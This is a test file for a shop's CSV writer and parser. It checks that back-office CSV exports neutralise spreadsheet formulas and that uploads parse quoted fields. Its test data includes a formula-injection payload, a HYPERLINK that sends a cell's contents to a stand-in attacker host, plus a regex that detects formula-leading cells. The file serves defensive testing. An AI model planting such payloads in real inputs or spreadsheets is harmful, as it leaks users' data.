// The shop's one CSV writer and parser (decision 058): a formula, a tab, a carriage return, quotes,
// commas and line breaks in fields come back as they went in; every CSV the back office downloads
// (audit log, subscribers, GST month) neutralises a cell a spreadsheet would run as a formula
// (OWASP: a leading = + - @, tab or CR gets a '), figures excepted; the PIN list upload reads
// quoted fields with commas in them.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestShop, type TestShop } from '../support/harness.js';
import { bearer, call, uniqueEmail } from '../support/accounts.js';
import { seededAdmin, type Admin } from '../support/admin.js';
import { insertSyntheticOrders } from '../../../scripts/synthetic-orders.js';
import { csvText, parseCsv } from '../../src/services/csv.js';

let shop: TestShop;
let admin: Admin;
beforeAll(async () => {
  shop = await startTestShop();
  admin = await seededAdmin(shop);
});
afterAll(() => shop?.stop());

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for discount")';
/** What a spreadsheet would start a formula with. */
const RUNS = /^[=+\-@\t\r]/;
const cellsOf = (text: string) => parseCsv(text).map((r) => r.cells);

describe('the CSV writer and parser', () => {
  it('round-trip formulas (neutralised), tabs, CRs, quotes, commas and line breaks', () => {
    const header = ['name', 'note', 'amount'];
    const rows = [
      [FORMULA, '+91 98765 43210', '-12.50'],
      ['\tTabbed', '\rCarriage', '-3'],
      ['say "namaste"', 'Kurta, cotton', '0.00'],
      ['two\nlines', 'cr\rinside', '100'],
      ['crlf\r\ninside', '', '=1+1'],
      ['@SUM(A1:A2)', '-', ' spaced '],
    ];
    const text = csvText(header, rows, { numeric: ['amount'] });
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')[0]).toBe('name,note,amount');
    const back = cellsOf(text);
    expect(back[0]).toEqual(header);
    // Neutralised cells gain one leading ', and nothing else changes; a plain negative figure in a
    // numeric column stays a number, anything else there is neutralised too.
    const expected = rows.map((row) =>
      row.map((cell, c) => (RUNS.test(cell) && !(c === 2 && /^-?\d+(\.\d+)?$/.test(cell)) ? `'${cell}` : cell)),
    );
    expect(back.slice(1)).toEqual(expected);
    expect(back[1]).toEqual([`'${FORMULA}`, "'+91 98765 43210", '-12.50']);
    expect(back[2]).toEqual(["'\tTabbed", "'\rCarriage", '-3']);
    expect(back[5]![2]).toBe("'=1+1");
    expect(
      back
        .slice(1)
        .flat()
        .filter((c) => RUNS.test(c)),
    ).toEqual(['-12.50', '-3']);
  });

  it('reads a byte-order mark, mixed line ends and delimiters, and names the line of an unclosed quote', () => {
    const text = '\uFEFFa;b\r\n"c,d"\t"e ""f"""\n\ng,h\r';
    expect(parseCsv(text, { delimiters: [',', ';', '\t'] })).toEqual([
      { cells: ['a', 'b'], line: 1 },
      { cells: ['c,d', 'e "f"'], line: 2 },
      { cells: ['g', 'h'], line: 4 },
    ]);
    expect(() => parseCsv('a,b\n"c,d\n')).toThrow(/cannot be read.*line/i);
  });
});

describe('every CSV download neutralises formulas', () => {
  it('the audit log: a staff-typed =HYPERLINK product title', async () => {
    const product = await shop.db.prisma.product.findFirstOrThrow({ where: { deletedAt: null } });
    const renamed = await admin.gql(
      `mutation ($id: ID!, $t: String!) { adminUpdateProduct(id: $id, input: { title: $t }) { title } }`,
      { id: product.id, t: FORMULA },
    );
    expect(renamed.body.errors).toBeUndefined();
    const priced = await admin.gql(
      `mutation ($id: ID!) { adminUpdateProduct(id: $id, input: { price: ${product.price + 100} }) { price } }`,
      { id: product.id },
    );
    expect(priced.body.errors).toBeUndefined();
    // An entry whose cells are the staff's text itself (the shop's own summaries lead with words).
    await shop.db.prisma.auditEntry.create({
      data: {
        kind: 'product.update',
        objectType: 'Product',
        objectId: product.id,
        summary: FORMULA,
        actorEmail: '\tx',
      },
    });

    const res = await fetch(`${shop.url}/api/admin/audit.csv?object=${product.id}`, { headers: admin.headers });
    expect(res.status).toBe(200);
    const rows = cellsOf(await res.text());
    expect(rows[0]).toEqual([
      'at',
      'person',
      'address',
      'request',
      'kind',
      'object type',
      'object',
      'summary',
      'before',
      'after',
    ]);
    expect(rows.length).toBeGreaterThanOrEqual(4);
    expect(rows.flat().filter((cell) => RUNS.test(cell))).toEqual([]);
    const summaries = rows.slice(1).map((r) => r[7]);
    expect(summaries).toContain(`Product changed: ${FORMULA} (price)`);
    expect(summaries).toContain(`'${FORMULA}`);
    expect(rows.slice(1).map((r) => r[1])).toContain("'\tx");
    const renaming = rows.find((r) => r[7]?.endsWith('(title)'))!;
    expect(JSON.parse(renaming[9]!).title).toBe(FORMULA);
  });

  it('the subscriber list: a shopper named with formulas', async () => {
    const email = uniqueEmail('formula-name');
    const signup = await call(shop, 'POST', '/auth/signup', {
      firstName: FORMULA,
      lastName: '-2+3',
      email,
      password: 'correct-horse-9',
    });
    expect(signup.status).toBe(201);
    const consent = await shop.graphql(
      `mutation { setConsent(topic: NEWSLETTER, granted: true) { granted } }`,
      {},
      bearer(signup.body.jwt),
    );
    expect(consent.body.errors).toBeUndefined();

    const reply = await admin.rest('GET', '/api/admin/subscribers.csv');
    expect(reply.status).toBe(200);
    const rows = cellsOf(reply.body as string);
    expect(rows.flat().filter((cell) => RUNS.test(cell))).toEqual([]);
    expect(rows.find((r) => r[0] === email)?.slice(1, 3)).toEqual([`'${FORMULA}`, "'-2+3"]);
  });

  it('the GST month: a formula in a text field is neutralised, a negative amount stays a number', async () => {
    const prisma = shop.db.prisma;
    await insertSyntheticOrders(prisma, 2);
    await prisma.$executeRawUnsafe(
      `UPDATE "Invoice" SET "issuedAt" = timestamp '2025-03-10 06:00', "placeOfSupplyName" = $1,
         "lines" = jsonb_build_array(jsonb_build_object('description', 'Adjustment', 'hsn', '6204', 'quantity', 1,
           'rate', 500, 'amount', -1313, 'taxable', -1250, 'cgst', -32, 'sgst', -31, 'igst', 0))
       WHERE id = (SELECT id FROM "Invoice" WHERE id LIKE 'bulkinv%' ORDER BY id LIMIT 1)`,
      FORMULA,
    );
    const res = await fetch(`${shop.url}/api/admin/gst/2025-03.csv`, { headers: admin.headers });
    expect(res.status).toBe(200);
    const rows = cellsOf(await res.text());
    expect(rows[0]).toEqual([
      'Document',
      'Number',
      'Date',
      'Against invoice',
      'Place of supply',
      'State code',
      'Rate %',
      'Taxable value',
      'CGST',
      'SGST',
      'IGST',
      'Total',
    ]);
    expect(rows).toHaveLength(2);
    expect(rows[1]).toEqual([
      'Invoice',
      expect.stringMatching(/^INV\/BULK\//),
      '2025-03-10',
      '',
      `'${FORMULA}`,
      '29',
      '5',
      '-12.50',
      '-0.32',
      '-0.31',
      '0.00',
      '-13.13',
    ]);
  });
});

describe('the PIN list upload', () => {
  it('reads quoted fields, with commas, quotes and line breaks inside them', async () => {
    const csv =
      '"PIN","COD","Days","Area"\r\n' +
      '"560001","yes","2","Bengaluru, MG Road"\r\n' +
      '# a note, with a comma\r\n' +
      '"400001", "no" ,3,"Fort, ""South"" Mumbai"\r\n' +
      '110001,Y,4,"Connaught Place,\nNew Delhi"\r\n' +
      '"6000xx";"N";"5";"Chennai, T. Nagar"\r\n';
    const reply = await fetch(`${shop.url}/api/admin/delivery-pins`, {
      method: 'PUT',
      headers: { ...admin.headers, 'content-type': 'text/csv' },
      body: csv,
    });
    expect(reply.status).toBe(200);
    expect(await reply.json()).toEqual({ loaded: 4, total: 4 });
    const listed = await admin.gql(`{ adminDeliveryPins { content { code codAllowed days } } }`);
    expect(listed.body.data.adminDeliveryPins.content).toEqual([
      { code: '110001', codAllowed: true, days: 4 },
      { code: '400001', codAllowed: false, days: 3 },
      { code: '560001', codAllowed: true, days: 2 },
      { code: '6000', codAllowed: false, days: 5 },
    ]);

    const broken = await fetch(`${shop.url}/api/admin/delivery-pins`, {
      method: 'PUT',
      headers: { ...admin.headers, 'content-type': 'text/csv' },
      body: '560001,yes,2\n"400001,no,3\n',
    });
    expect(broken.status).toBe(400);
    expect((await broken.json()).message).toMatch(/^The CSV cannot be read: .*line/);
  });
});
